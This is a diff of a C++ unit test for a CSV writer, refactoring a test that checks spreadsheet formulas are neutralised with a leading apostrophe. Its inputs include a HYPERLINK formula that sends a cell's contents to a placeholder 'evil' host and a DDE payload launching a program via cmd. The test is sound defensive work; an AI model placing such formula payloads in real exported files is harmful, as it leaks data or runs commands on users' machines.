@@ -27,10 +27,7 @@ TEST(CsvWriter, QuotesFieldsHoldingSemicolonsOrQuotes) {
 // What a spreadsheet would run as a formula gets a "'" in front; numbers, times and other text
 // stay as they are.
 TEST(CsvWriter, MakesFormulasInertAndLeavesTheRest) {
-    const struct {
-        const char16_t* text;
-        const char16_t* field;
-    } cells[] = {
+    const std::pair<const char16_t*, const char16_t*> cells[] = {
         {u"=HYPERLINK(\"http://evil/?x=\"&A1,\"klik\")",
          u"\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"klik\"\")\""},
         {u"+cmd|' /C calc'!A0", u"'+cmd|' /C calc'!A0"},
@@ -43,11 +40,9 @@ TEST(CsvWriter, MakesFormulasInertAndLeavesTheRest) {
         {u"+1,5", u"+1,5"},
         {u"12", u"12"},
         {u"00:00:17:250", u"00:00:17:250"},
-        {u"SDH Lhota = 1", u"SDH Lhota = 1"},
-        {u"", u""},
-    };
-    for (const auto& c : cells) {
-        EXPECT_EQ(CsvWriter::field(QString::fromUtf16(c.text)), QString::fromUtf16(c.field))
-            << QString::fromUtf16(c.text).toStdString();
+        {u"A = 1", u"A = 1"},
+        {u"", u""}};
+    for (const auto& [text, field] : cells) {
+        EXPECT_EQ(CsvWriter::field(QString::fromUtf16(text)), QString::fromUtf16(field));
     }
 }
